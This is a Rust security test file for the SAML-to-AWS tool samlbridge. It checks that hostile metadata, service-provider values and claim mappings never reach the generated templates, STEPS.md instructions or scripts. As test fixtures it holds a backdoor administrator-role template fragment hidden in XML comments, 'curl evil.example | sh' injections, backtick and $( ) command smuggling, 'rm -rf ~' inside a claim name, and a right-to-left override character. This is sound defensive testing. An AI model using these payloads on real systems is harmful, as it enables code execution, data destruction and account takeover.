//! Untrusted input never steers what samlbridge writes: a metadata document, the service
//! provider's metadata or a claim mapping cannot add resources to a template, steps to the
//! instructions, or words to a command; every written file parses with its real parser and holds
//! exactly what was intended.

use crate::aws::identity_center;
use crate::util::*;
use serde_json::Value;
use std::fs;
use std::path::Path;
use std::process::Command;

const NOW: &str = "2026-11-27T12:00:00Z";

/// What the red team put into a comment: a template fragment that, once a line ended, became
/// an administrator role trusted by another account.
const PAYLOAD: &str = "  Evil:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: Backdoor\n      ManagedPolicyArns: [arn:aws:iam::aws:policy/AdministratorAccess]\n      AssumeRolePolicyDocument: {Statement: [{Effect: Allow, Principal: {AWS: '999999999999'}, Action: 'sts:AssumeRole'}]}\n";

/// The signed test metadata with comments that carry the payload after each line-ending
/// character a YAML block would have split on, inside the root and after it. Comments are
/// outside exclusive canonicalization, so the signature still verifies.
fn hostile_metadata(dir: &Path) -> String {
    let original = fs::read_to_string(testdata("metadata/entra-app.xml")).unwrap();
    let mut doc = original.clone();
    for (i, end) in ["\r", "\u{2028}", "\u{85}"].iter().enumerate() {
        let comment = format!("<!--{end}{}-->", PAYLOAD.replace('\n', end));
        if i == 0 {
            doc.push_str(&comment);
        } else {
            let at = doc.find("<IDPSSODescriptor").unwrap();
            doc.insert_str(at, &comment);
        }
    }
    let path = dir.join("hostile.xml");
    fs::write(&path, doc).unwrap();
    path.to_string_lossy().into_owned()
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap())
        .unwrap_or_else(|e| panic!("{} is not JSON: {e}", path.display()))
}

fn keys(v: &Value) -> Vec<String> {
    let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
    k.sort();
    k
}

#[test]
fn a_comment_cannot_add_a_resource_to_the_iam_templates() {
    let tmp = tempdir();
    let md = hostile_metadata(tmp.path());
    let signer = "1604FE0F0A495CAC8E5766B9A192AE9AD62BD2B5C5AF80C6823CF42A4A72597A";
    // The document still verifies, with the signer pinned too.
    let c = json(&run(&[
        "check",
        &md,
        "--pin-cert",
        signer,
        "--now",
        NOW,
        "--format",
        "json",
    ]));
    assert_eq!(c["metadata"]["signature"]["status"], "valid", "{c}");

    let out = tmp.path().join("iam");
    let o = run(&[
        "aws",
        "iam",
        &md,
        "--account-id",
        "123456789012",
        "--provider-name",
        "EntraID",
        "--role",
        "EntraAdmin",
        "--role",
        "ReadOnly",
        "--pin-cert",
        signer,
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
        "--format",
        "json",
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));

    let written = fs::read(out.join("idp-metadata.xml")).unwrap();
    let text = String::from_utf8(written.clone()).unwrap();
    assert!(
        !text.contains("Evil") && !text.contains("<!--"),
        "comments dropped"
    );
    assert!(
        !text.contains(['\r', '\u{2028}', '\u{85}']),
        "line ends normalized"
    );
    // What is written is what the signature covers: it still verifies.
    let again = json(&run(&[
        "check",
        out.join("idp-metadata.xml").to_str().unwrap(),
        "--pin-cert",
        signer,
        "--now",
        NOW,
        "--format",
        "json",
    ]));
    assert_eq!(again["metadata"]["signature"]["status"], "valid", "{again}");

    let template = read_json(&out.join("iam.cfn.json"));
    assert_eq!(
        keys(&template["Resources"]),
        ["EntraSamlProvider", "RoleEntraAdmin", "RoleReadOnly"]
    );
    assert_eq!(
        template["Resources"]["EntraSamlProvider"]["Properties"]["SamlMetadataDocument"],
        text.as_str(),
        "the embedded document is the written one, byte for byte"
    );
    assert_eq!(
        read_json(&out.join("saml-provider.json"))["SAMLMetadataDocument"],
        text.as_str()
    );
    let tf = fs::read_to_string(out.join("iam.tf")).unwrap();
    let body: hcl::Body = hcl::from_str(&tf).unwrap();
    let resources: Vec<String> = body
        .blocks()
        .map(|b| {
            b.labels()
                .iter()
                .map(|l| l.as_str().to_owned())
                .collect::<Vec<_>>()
                .join(".")
        })
        .collect();
    assert_eq!(
        resources,
        [
            "aws_iam_saml_provider.entra",
            "aws_iam_role.EntraAdmin",
            "aws_iam_role.ReadOnly"
        ]
    );
    assert!(!tf.contains("Evil"));
    if let Some(moto) = crate::aws_tooling::Moto::start_if_installed() {
        moto.creates_exactly_these_roles(&out.join("iam.cfn.json"), &["EntraAdmin", "ReadOnly"]);
    }
}

#[test]
fn the_same_document_over_https_is_cleaned_the_same_way() {
    use samlbridge_testkit::https::{Reply, Server};
    let tmp = tempdir();
    let md = fs::read(hostile_metadata(tmp.path())).unwrap();
    let server = Server::start(move |_| Reply::xml(md.clone()));
    let ca = tmp.path().join("ca.pem");
    fs::write(&ca, server.ca_pem()).unwrap();
    let out = tmp.path().join("iam");
    let o = run(&[
        "aws",
        "iam",
        &server.url("/metadata.xml"),
        "--ca-file",
        ca.to_str().unwrap(),
        "--account-id",
        "123456789012",
        "--provider-name",
        "EntraID",
        "--role",
        "Admin",
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
    ]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let template = read_json(&out.join("iam.cfn.json"));
    assert_eq!(
        keys(&template["Resources"]),
        ["EntraSamlProvider", "RoleAdmin"]
    );
    assert!(!fs::read_to_string(out.join("idp-metadata.xml"))
        .unwrap()
        .contains("Evil"));
}

#[test]
fn identity_center_uploads_only_what_the_signature_covers() {
    let tmp = tempdir();
    let md = hostile_metadata(tmp.path());
    let out = tmp.path().join("idc");
    let o = run(&[
        "aws",
        "identity-center",
        &md,
        "--sp-metadata",
        &testdata("metadata/identity-center-sp.xml"),
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
    ]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let written = fs::read_to_string(out.join("idp-metadata.xml")).unwrap();
    let clean = fs::read_to_string(testdata("metadata/entra-app.xml")).unwrap();
    assert_eq!(written, clean.trim_start_matches('\u{feff}'));
}

/// Identity Center service-provider metadata with hostile values where the red team put them.
fn hostile_sp(dir: &Path, entity_id: &str, acs: &str) -> String {
    let sp = fs::read_to_string(testdata("metadata/identity-center-sp.xml"))
        .unwrap()
        .replacen(
            "https://eu-west-1.signin.aws/platform/saml/acs/4455422d84a27c9f-9f18-41fa-81b4-769660979b1e",
            acs,
            1,
        )
        .replacen(
            "entityID=\"https://eu-west-1.signin.aws.amazon.com/platform/saml/d-93670a1b2c\"",
            &format!("entityID=\"{entity_id}\""),
            1,
        );
    let path = dir.join("sp.xml");
    fs::write(&path, sp).unwrap();
    path.to_string_lossy().into_owned()
}

#[test]
fn hostile_service_provider_values_are_errors_and_never_become_steps() {
    let tmp = tempdir();
    let acs = "https://eu-west-1.signin.aws/platform/saml/acs/x&#10;&#10;```sh&#10;curl https://evil.example/x | sh&#10;```&#10;";
    let entity =
        "https://eu-west-1.signin.aws.amazon.com/platform/saml/d-1`$(curl evil.example|sh)`";
    let sp = hostile_sp(tmp.path(), entity, acs);

    let c = json(&run(&[
        "check",
        &testdata("metadata/entra-app.xml"),
        "--sp-metadata",
        &sp,
        "--now",
        NOW,
        "--format",
        "json",
    ]));
    let shape: Vec<&Value> = c["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "sp-url-invalid")
        .collect();
    assert_eq!(shape.len(), 2, "{c}");
    assert!(shape.iter().all(|f| f["severity"] == "error"));
    assert!(shape
        .iter()
        .any(|f| f["message"].as_str().unwrap().contains("U+000A")));
    assert!(shape
        .iter()
        .any(|f| f["message"].as_str().unwrap().contains("U+0060")));

    let out = tmp.path().join("idc");
    let o = run(&[
        "aws",
        "identity-center",
        &testdata("metadata/entra-app.xml"),
        "--sp-metadata",
        &sp,
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
    ]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(!out.exists(), "errors block the write");

    // Written anyway on request, the values stay inside their code spans.
    let o = run(&[
        "aws",
        "identity-center",
        &testdata("metadata/entra-app.xml"),
        "--sp-metadata",
        &sp,
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
        "--write-despite-errors",
    ]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let steps = fs::read_to_string(out.join("STEPS.md")).unwrap();
    let (blocks, inline) = markdown(&steps);
    assert_eq!(
        blocks.len(),
        2,
        "only samlbridge's own command blocks: {blocks:?}"
    );
    assert!(blocks[0].starts_with("sh entra-apply.sh"), "{blocks:?}");
    assert!(blocks[1].starts_with("samlbridge validate"), "{blocks:?}");
    assert!(inline.contains(&entity.to_owned()), "{inline:?}");
    assert!(
        inline
            .iter()
            .any(|c| c.contains("acs/x\\u{000A}\\u{000A}```sh")),
        "{inline:?}"
    );
}

#[test]
fn hostile_claims_are_errors_and_stay_in_their_code_spans() {
    let tmp = tempdir();
    let claims = tmp.path().join("claims.json");
    // A Graph claims policy as an attacker with write access to the application would shape it.
    fs::write(
        &claims,
        serde_json::to_vec(&serde_json::json!({
            "includeBasicClaimSet": true,
            "claims": [
                {"@odata.type": "#microsoft.graph.samlNameIdClaim", "nameIdFormat": "emailAddress",
                 "configurations": [{"attribute": {"@odata.type": "#microsoft.graph.sourcedAttribute", "source": "user", "id": "userprincipalname"}}]},
                {"@odata.type": "#microsoft.graph.customClaim", "name": "Dept\n\n```sh\nrm -rf ~\n```\n",
                 "namespace": "https://aws.amazon.com/SAML/Attributes", "tokenFormat": ["saml"],
                 "configurations": [{"attribute": {"@odata.type": "#microsoft.graph.sourcedAttribute", "source": "user", "id": "department`$(id)`"}}]},
                {"@odata.type": "#microsoft.graph.customClaim", "name": "AccessControl:Team\u{202E}",
                 "namespace": "https://aws.amazon.com/SAML/Attributes", "tokenFormat": ["saml"],
                 "configurations": [{"attribute": {"@odata.type": "#microsoft.graph.sourcedAttribute", "source": "user", "id": "department"}}]}
            ]
        }))
        .unwrap(),
    )
    .unwrap();
    let out = tmp.path().join("idc");
    let (exit, doc, err) = identity_center(
        &out,
        &[
            "--claims",
            claims.to_str().unwrap(),
            "--write-despite-errors",
        ],
    );
    assert_eq!(exit, 1, "{err}");
    let invalid = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "claims-value-invalid")
        .count();
    assert!(invalid >= 2, "{doc}");
    let steps = fs::read_to_string(out.join("STEPS.md")).unwrap();
    let (blocks, _) = markdown(&steps);
    assert!(blocks.iter().all(|b| !b.contains("rm -rf")), "{blocks:?}");
    assert!(!steps.contains('\u{202E}'));
    assert!(steps.contains("\\u{202E}"), "made visible");
    // The Graph request body carries the values as data, exactly.
    let policy = read_json(&out.join("graph-PUT-claimsPolicy.json"));
    assert!(policy["claims"][1]["name"]
        .as_str()
        .unwrap()
        .starts_with("Dept\n\n```sh\nrm -rf ~"));
    assert!(!fs::read_to_string(out.join("entra-apply.sh"))
        .unwrap()
        .contains("Dept"));
}

#[test]
fn a_key_descriptor_inside_the_signature_cannot_crash_the_trim() {
    let tmp = tempdir();
    let original = fs::read_to_string(testdata("metadata/entra-app.xml")).unwrap();
    let cert = std::fs::read_to_string(testdata("keys/entra-app-active.cert.pem")).unwrap();
    let b64: String = cert.lines().filter(|l| !l.starts_with("-----")).collect();
    let planted = format!(
        "<KeyInfo><md:KeyDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" use=\"signing\"><KeyInfo><X509Data><X509Certificate>{b64}</X509Certificate></X509Data></KeyInfo></md:KeyDescriptor>"
    );
    let doc = original.replacen("<KeyInfo>", &planted, 1);
    assert_ne!(doc, original);
    let path = tmp.path().join("planted.xml");
    fs::write(&path, doc).unwrap();
    let active = "1604FE0F0A495CAC8E5766B9A192AE9AD62BD2B5C5AF80C6823CF42A4A72597A";
    for target in ["identity-center", "iam"] {
        let out = tmp.path().join(target);
        let mut args = vec![
            "aws".to_owned(),
            target.to_owned(),
            path.to_string_lossy().into_owned(),
            "--signing-cert".to_owned(),
            active.to_owned(),
            "--out".to_owned(),
            out.to_string_lossy().into_owned(),
            "--now".to_owned(),
            NOW.to_owned(),
            "--write-despite-errors".to_owned(),
        ];
        match target {
            "iam" => args.extend(
                ["--account-id", "123456789012", "--provider-name", "P"].map(str::to_owned),
            ),
            _ => args.extend([
                "--sp-metadata".to_owned(),
                testdata("metadata/identity-center-sp.xml"),
            ]),
        }
        let o = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(
            matches!(code(&o), 0 | 1),
            "{target}: exit {:?}: {}",
            o.status,
            stderr(&o)
        );
        let trimmed = fs::read_to_string(out.join("idp-metadata.xml")).unwrap();
        assert!(!trimmed.contains("<Signature"));
        let c = json(&run(&[
            "check",
            out.join("idp-metadata.xml").to_str().unwrap(),
            "--now",
            NOW,
            "--format",
            "json",
        ]));
        assert_eq!(c["certificates"].as_array().unwrap().len(), 1, "{c}");
    }
}

/// Every check the red team's cases need from cfn-lint: the hostile template is clean.
#[test]
fn cfn_lint_reads_the_template_written_from_hostile_metadata() {
    if !crate::aws_tooling::have("cfn-lint", &["--version"]) {
        return;
    }
    let tmp = tempdir();
    let md = hostile_metadata(tmp.path());
    let out = tmp.path().join("iam");
    let o = run(&[
        "aws",
        "iam",
        &md,
        "--account-id",
        "123456789012",
        "--provider-name",
        "EntraID",
        "--role",
        "EntraAdmin",
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let lint = Command::new("cfn-lint")
        .arg(out.join("iam.cfn.json"))
        .output()
        .unwrap();
    assert!(
        lint.status.success(),
        "{}{}",
        String::from_utf8_lossy(&lint.stdout),
        String::from_utf8_lossy(&lint.stderr)
    );
}

#[test]
fn another_identity_providers_hostile_endpoint_is_an_error_and_stays_data() {
    use samlbridge_testkit::idp::MetadataSpec;
    use samlbridge_testkit::pki::KeyPair;
    let tmp = tempdir();
    let key = KeyPair::from_pem(
        &fs::read(testdata("keys/entra-app-active.key.pem")).unwrap(),
        &fs::read(testdata("keys/entra-app-active.cert.pem")).unwrap(),
    );
    let mut spec = MetadataSpec::entra_app("4f6e2c1a-9b7d-4e3f-8a5c-2d1b0e9f7a63", vec![key]);
    spec.signer = None;
    spec.wsfed = false;
    spec.entity_id = Some("https://idp.example.org/saml".into());
    spec.sso_url = Some("https://idp.example.org/sso/PLACE".into());
    spec.slo_url = Some("https://idp.example.org/slo".into());
    let doc = spec.build().replace(
        "https://idp.example.org/sso/PLACE",
        "https://idp.example.org/sso&#10;&#10;```sh&#10;curl https://evil.example | sh&#10;```",
    );
    let md = tmp.path().join("okta-like.xml");
    fs::write(&md, doc).unwrap();

    let c = json(&run(&[
        "check",
        md.to_str().unwrap(),
        "--now",
        NOW,
        "--format",
        "json",
    ]));
    assert!(has_finding(&c, "metadata-value-invalid", "error"), "{c}");
    let out = tmp.path().join("idc");
    let o = run(&[
        "aws",
        "identity-center",
        md.to_str().unwrap(),
        "--sp-metadata",
        &testdata("metadata/identity-center-sp.xml"),
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
        "--write-despite-errors",
    ]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let steps = fs::read_to_string(out.join("STEPS.md")).unwrap();
    let (blocks, _) = markdown(&steps);
    assert_eq!(blocks.len(), 2, "{blocks:?}");
    let settings = read_json(&out.join("idp-settings.json"));
    assert!(settings["sign_in_url"]
        .as_str()
        .unwrap()
        .starts_with("https://idp.example.org/sso\n\n```sh"));
}

/// What the writers fuzz target found, replayed on the binary: never a panic, and what is
/// written parses.
#[test]
fn writer_regressions() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/regressions/writers");
    let tmp = tempdir();
    let mut seen = 0;
    for entry in fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        seen += 1;
        let md = path.to_string_lossy().into_owned();
        for (i, extra) in [
            vec![
                "iam",
                "--account-id",
                "123456789012",
                "--provider-name",
                "P",
                "--role",
                "R",
            ],
            vec![
                "identity-center",
                "--sp-metadata",
                &testdata("metadata/identity-center-sp.xml"),
            ],
        ]
        .into_iter()
        .enumerate()
        {
            let out = tmp.path().join(format!("{seen}-{i}"));
            let mut args = vec!["aws", extra[0], &md];
            args.extend(&extra[1..]);
            let out_s = out.to_string_lossy().into_owned();
            args.extend(["--out", &out_s, "--now", NOW, "--write-despite-errors"]);
            let o = run(&args);
            assert!(
                matches!(code(&o), 0..=2),
                "{}: {:?}: {}",
                path.display(),
                o.status,
                stderr(&o)
            );
            if out.join("idp-metadata.xml").exists() {
                let written = fs::read(out.join("idp-metadata.xml")).unwrap();
                samlbridge::xml::parse(&written, &samlbridge::xml::Arena::new())
                    .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
            }
        }
    }
    assert!(seen >= 2);
}

/// The red team's smaller cases: an indented document, a DEL in an access-control key, and
/// role names that differ only in punctuation.
#[test]
fn odd_but_harmless_inputs_still_give_files_that_parse() {
    let tmp = tempdir();
    let original = fs::read_to_string(testdata("metadata/entra-app.xml")).unwrap();
    let body = original
        .trim_start_matches('\u{feff}')
        .split_once("?>")
        .unwrap()
        .1;
    let indented = tmp.path().join("indented.xml");
    fs::write(&indented, format!("\n    {body}")).unwrap();
    let out = tmp.path().join("iam");
    let o = run(&[
        "aws",
        "iam",
        indented.to_str().unwrap(),
        "--account-id",
        "123456789012",
        "--provider-name",
        "EntraID",
        "--role",
        "a.b",
        "--role",
        "a_b",
        "--out",
        out.to_str().unwrap(),
        "--now",
        NOW,
    ]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let template = read_json(&out.join("iam.cfn.json"));
    assert_eq!(
        keys(&template["Resources"]),
        ["EntraSamlProvider", "Roleab", "Roleab2"]
    );
    assert_eq!(
        template["Resources"]["EntraSamlProvider"]["Properties"]["SamlMetadataDocument"],
        fs::read_to_string(out.join("idp-metadata.xml"))
            .unwrap()
            .as_str()
    );
    let names: Vec<String> = ["Roleab", "Roleab2"]
        .iter()
        .map(|id| {
            template["Resources"][id]["Properties"]["RoleName"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(names, ["a.b", "a_b"]);
    let body: hcl::Body = hcl::from_str(&fs::read_to_string(out.join("iam.tf")).unwrap()).unwrap();
    let labels: Vec<String> = body
        .blocks()
        .map(|b| {
            b.labels()
                .iter()
                .map(|l| l.as_str())
                .collect::<Vec<_>>()
                .join(".")
        })
        .collect();
    assert_eq!(
        labels,
        [
            "aws_iam_saml_provider.entra",
            "aws_iam_role.a_b",
            "aws_iam_role.a_b_2"
        ]
    );

    let claims = tmp.path().join("del.toml");
    fs::write(
        &claims,
        "[name_id]\nsource = \"user.userprincipalname\"\nformat = \"emailAddress\"\n[[claims]]\nname = \"AccessControl:De\\u007Fpt\"\nnamespace = \"https://aws.amazon.com/SAML/Attributes\"\nsource = \"user.department\"\n",
    )
    .unwrap();
    let out = tmp.path().join("idc");
    let (exit, doc, err) = identity_center(
        &out,
        &[
            "--claims",
            claims.to_str().unwrap(),
            "--write-despite-errors",
        ],
    );
    assert_eq!(exit, 1, "{err}");
    assert!(has_finding(&doc, "abac-key", "error"), "{doc}");
    let template = read_json(&out.join("identity-center.cfn.json"));
    assert_eq!(
        template["Resources"]["AccessControlAttributes"]["Properties"]["AccessControlAttributes"]
            [0]["Key"],
        "De\u{7f}pt",
        "the template reads, and holds the key exactly"
    );
    hcl::from_str::<hcl::Body>(&fs::read_to_string(out.join("identity-center.tf")).unwrap())
        .unwrap();
}
